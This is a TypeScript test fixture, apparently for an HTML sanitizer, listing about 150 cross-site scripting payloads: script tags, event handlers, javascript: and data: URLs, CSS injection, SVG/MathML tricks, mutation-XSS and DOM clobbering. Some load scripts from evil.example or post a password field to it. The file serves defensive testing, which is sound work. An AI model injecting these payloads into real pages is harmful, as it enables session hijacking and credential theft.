import { hasForbiddenCharacters, hasHiddenCharacters, tidy } from '../../src/domain/shared/text.js';

const IMAGE = '/api/file/01hq3v6m8w2x4y6z8a0b2c4d6e';
const NUL = '\u0000';

/** Scripts, and whatever else runs by being there. */
const ELEMENTS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script\t>',
  '<<script>alert(1);//<</script>',
  `<scr${NUL}ipt>alert(1)</scr${NUL}ipt>`,
  '<script type="module">import "//evil.example/x.js"</script>',
  '<p><script>alert(1)</p>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
  '<object data="javascript:alert(1)"></object>',
  '<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuYWxlcnQoMSk8L3NjcmlwdD4="></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="Evil.class"></applet>',
  '<base href="https://evil.example/"><a href="/x">x</a>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<link rel="import" href="https://evil.example/x.html">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>p{background:url("javascript:alert(1)")}</style>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<portal src="https://evil.example/"></portal>',
  '<dialog open onclose=alert(1)>x</dialog>',
  '<my-element onclick=alert(1)>x</my-element>',
];

/** Attributes that run. */
const HANDLERS = [
  '<img src=x onerror=alert(1)>',
  `<img src="${IMAGE}" onload=alert(1)>`,
  '<img src=x onerror="&#97;lert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img src=x:x onerror\n=\nalert(1)>',
  '<body onload=alert(1)>',
  '<p onmouseover=alert(1)>x</p>',
  '<p onpointerenter="alert(1)" onanimationstart="alert(1)">x</p>',
  '<a onclick=alert(1) href="https://example.com/">x</a>',
  '<a autofocus tabindex=1 onfocus=alert(1)>x</a>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)></select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<button onclick=alert(1) popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>x</p>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<form action="https://evil.example/"><input name=password type=password></form>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<keygen autofocus onfocus=alert(1)>',
];

/** Addresses that run, or that tell somebody who reads. */
const ADDRESSES = [
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  `<a href="java${NUL}script:alert(1)">x</a>`,
  '<a href="&#106;&#x61;vascript&colon;alert(1)">x</a>',
  '<a href="javascript&#58;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="blob:https://verify.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="https://verify.example@evil.example/">x</a>',
  '<a href="https://user:secret@evil.example/">x</a>',
  '<a href="/api/user/logout">x</a>',
  '<a href="#x" ping="https://evil.example/">x</a>',
  '<a href="https://example.com/" download target=_top rel="opener">x</a>',
  '<img src="data:image/png;base64,iVBORw0KGgo=">',
  '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert(1)%22/>">',
  '<img src="javascript:alert(1)">',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif">',
  `<img src="${IMAGE}/../../user/logout">`,
  `<img src="${IMAGE}?sig=1">`,
  `<img src="https://evil.example${IMAGE}">`,
  `<img src="https://verify.example.evil.example${IMAGE}">`,
  `<img src="${IMAGE}" srcset="https://evil.example/x 2x" lowsrc="https://evil.example/x" longdesc="javascript:alert(1)">`,
  '<img src="/api/user/logout">',
  '<picture><source srcset="https://evil.example/x"><img src=x></picture>',
  '<table background="https://evil.example/x"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<video poster="https://evil.example/x"></video>',
];

/** Styles that fetch, run or cover the page. */
const STYLES = [
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p style="background-image:url(javascript:alert(1))">x</p>',
  '<p style="background:\\75rl(https://evil.example/x)">x</p>',
  '<p style="background:u/**/rl(https://evil.example/x)">x</p>',
  '<p style="color:red;background:url(data:image/svg+xml;base64,PHN2Zy8+)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="behavior:url(#x);-moz-binding:url(https://evil.example/x)">x</p>',
  '<p style="list-style-image:image-set(\'https://evil.example/x\' 1x)">x</p>',
  '<p style="position:fixed;inset:0;z-index:9999">x</p>',
  '<p style="color:var(--x);content:attr(title)">x</p>',
  '<p style="color:rgb(0,0,0);x:&quot;}</style><script>alert(1)</script>&quot;">x</p>',
];

/** SVG and MathML. */
const FOREIGN = [
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:text/javascript,alert(1)"/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
  '<svg><animate attributeName=href values="javascript:alert(1)" /></svg>',
  '<svg><set attributeName=onmouseover to=alert(1) /></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<svg><image href="https://evil.example/x"/></svg>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
];

/** HTML that changes when it is written out and read again. */
const MUTATING = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style></p></svg>',
  '<math></br><style><!--</style><img src=x onerror=alert(1)>-->',
  '<math><mi><b><style></math></b></style><img src=x onerror=alert(1)>',
  '<noscript><style></noscript><img src=x onerror=alert(1)></style>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<plaintext><img src=x onerror=alert(1)>',
  '<listing>&lt;img onerror=alert(1) src=x&gt;</listing>',
  '<p title="<!--<img src=x onerror=alert(1)>-->">x</p><!--<img src="--><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--!><img src=x onerror=alert(1)>--!>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?><img src=x onerror=alert(1)>',
  '<img alt="`><img src=x onerror=alert(1)>" src=x>',
  `<img src="${IMAGE}" alt="</p><script>alert(1)</script>">`,
  `<img src="${IMAGE}" alt="&quot; onerror=&quot;alert(1)">`,
  '<a href="https://example.com/&quot;onmouseover=alert(1)//">x</a>',
  '<a href="https://example.com/\'><img src=x onerror=alert(1)>">x</a>',
  '<table><caption><svg><title><table><caption></caption></table></title><style><a id="</style><img src=x onerror=alert(1)>"></svg></caption></table>',
  '<a><svg><a><title><b><style><a title="</style><img src=x onerror=alert(1)>"></a></b></title></a></svg></a>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=x onerror=alert(1)>">',
  '&lt;img src=x onerror=alert(1)&gt;',
  '<pre>&lt;script&gt;alert(1)&lt;/script&gt;</pre>',
  '<p>\ud800<img src=x onerror=alert(1)>\u202e</p>',
];

/** Names that take the place of what a page's scripts rely on. */
const CLOBBERING = [
  '<img name=getElementById><form name=body><input name=parentNode></form>',
  '<a id=defaultView href="https://example.com/">x</a><a id=defaultView name=x>x</a>',
  '<form id=x><output id=x>x</output></form>',
  '<p id="__proto__" class="constructor">x</p>',
];

export const XSS = [...ELEMENTS, ...HANDLERS, ...ADDRESSES, ...STYLES, ...FOREIGN, ...MUTATING, ...CLOBBERING];

/** Those that a field takes: what no text may hold is refused before. In one line, as fields of one line keep them. */
export const XSS_TEXTS = XSS.map(tidy).filter((text) => !hasForbiddenCharacters(text) && !hasHiddenCharacters(text));

/** The tags of a document, in order: a text that is shown as one adds none. */
export const tagsOf = (html: string): string[] => html.match(/<[^>]*>/g) ?? [];

const CHARACTERS: Readonly<Record<string, string>> = { lt: '<', gt: '>', quot: '"', amp: '&' };

/** What a document says, its tags left out. */
export const wordsOf = (html: string): string =>
  html
    .replaceAll(/<[^>]*>/g, '')
    .replaceAll(/&(?:#x([\da-f]+)|#(\d+)|(\w+));/gi, (whole, hex?: string, decimal?: string, name = '') =>
      hex || decimal
        ? String.fromCodePoint(hex ? Number.parseInt(hex, 16) : Number(decimal))
        : (CHARACTERS[name] ?? whole),
    );
